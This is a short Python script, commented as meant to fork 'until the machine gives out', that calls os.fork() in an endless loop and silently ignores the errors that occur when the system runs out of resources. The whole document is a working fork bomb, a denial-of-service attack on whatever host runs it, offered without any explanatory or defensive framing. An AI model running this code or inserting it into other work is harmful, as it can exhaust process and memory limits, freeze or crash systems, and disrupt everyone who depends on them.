# Fork until the machine gives out, and keep trying.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
